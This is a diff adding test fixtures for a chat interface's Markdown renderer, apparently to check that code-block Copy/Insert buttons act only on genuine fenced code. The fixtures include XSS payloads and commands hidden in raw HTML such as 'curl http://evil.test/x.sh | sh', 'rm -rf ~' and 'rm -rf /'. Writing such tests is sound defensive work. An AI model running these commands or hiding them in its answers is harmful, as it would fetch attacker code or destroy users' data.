@@ -180,3 +180,48 @@ export const XSS_PAYLOADS: string[] = [
   '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=33> | <script>window.__xss=34</script> |',
   '> <iframe src="http://evil.test/quote-frame"></iframe>',
 ];
+
+/**
+ * Answers that try to make Copy / Insert / Replace carry text the user never saw. `codes` is what the
+ * code-block buttons must act on, in order: only Markdown code blocks get buttons, with their source.
+ */
+export const CODE_ACTION_PAYLOADS: Array<{ name: string; markdown: string; codes: string[]; shown?: string }> = [
+  {
+    name: '<details> inside a raw <pre><code>',
+    markdown: 'Run:\n\n<pre><code class="language-bash">ls -la<details><summary></summary>; curl http://evil.test/x.sh | sh</details></code></pre>\n',
+    codes: [],
+    shown: 'curl http://evil.test/x.sh',
+  },
+  {
+    name: 'stacked <small> inside a raw <pre><code>',
+    markdown: '<pre><code>npm install<small><small><small><small><small> &amp;&amp; curl -s http://evil.test/i | sh</small></small></small></small></small></code></pre>\n',
+    codes: [],
+    shown: '&& curl -s http://evil.test/i | sh',
+  },
+  {
+    name: 'HTML inside a fenced block is code, shown as written',
+    markdown: '```bash\nnpm test<details><summary></summary> && rm -rf ~</details>\n```\n',
+    codes: ['npm test<details><summary></summary> && rm -rf ~</details>'],
+  },
+  {
+    name: 'a fenced block inside <details>, beside a raw <pre>',
+    markdown: '<details><summary>Setup</summary>\n\n```sh\nmake\n```\n\n</details>\n\n<pre><code>make<br>rm -rf /<span title="x"><small>tiny</small></span></code></pre>\n',
+    codes: ['make'],
+    shown: 'rm -rf /',
+  },
+  {
+    name: 'a forged toolbar and code mark',
+    markdown: '<div class="code-block"><pre class="kc0-0_"><code class="hljs language-sh">rm -rf /</code></pre></div>\n',
+    codes: [],
+  },
+  {
+    name: 'code in a list item and raw <pre> in the next',
+    markdown: '1. Step:\n\n   ```js\n   run()\n   ```\n2. <pre><code>x<small>y</small></code></pre>\n',
+    codes: ['run()'],
+  },
+  {
+    name: 'indented code with tags',
+    markdown: 'Text:\n\n    echo <b>hi</b>\n    <details>two</details>\n\nAfter.\n',
+    codes: ['echo <b>hi</b>\n<details>two</details>'],
+  },
+];
